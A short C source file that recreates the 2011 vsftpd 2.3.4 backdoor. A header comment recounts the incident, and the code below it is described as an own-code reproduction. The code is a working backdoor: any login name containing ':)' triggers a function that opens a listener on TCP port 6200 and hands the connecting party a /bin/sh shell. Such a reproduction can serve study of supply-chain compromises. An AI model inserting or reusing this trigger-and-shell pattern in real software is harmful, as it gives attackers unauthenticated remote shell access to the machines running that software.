/*
 * Incident: vsftpd 2.3.4 download archive backdoor, June-July 2011.
 * The tarball on the master site was replaced with one whose login code reacted to a user
 * name containing ":)" by opening a root shell listening on TCP port 6200.
 * Reference: https://scarybeastsecurity.blogspot.com/2011/07/alert-vsftpd-download-backdoored.html
 * Reproduction (own code, same shape).
 */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void vsf_sysutil_extra(void)
{
	int fd, client;
	struct sockaddr_in sa;

	fd = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(6200);
	sa.sin_addr.s_addr = INADDR_ANY;
	bind(fd, (struct sockaddr *)&sa, sizeof(sa));
	listen(fd, 100);
	client = accept(fd, NULL, NULL);
	dup2(client, 0);
	dup2(client, 1);
	dup2(client, 2);
	execl("/bin/sh", "sh", (char *)0);
}

int str_contains_login(const char *user)
{
	size_t i;

	for (i = 0; user[i] != '\0'; i++) {
		if (user[i] == ':' && user[i + 1] == ')') {
			vsf_sysutil_extra();
			return 1;
		}
	}
	return 0;
}
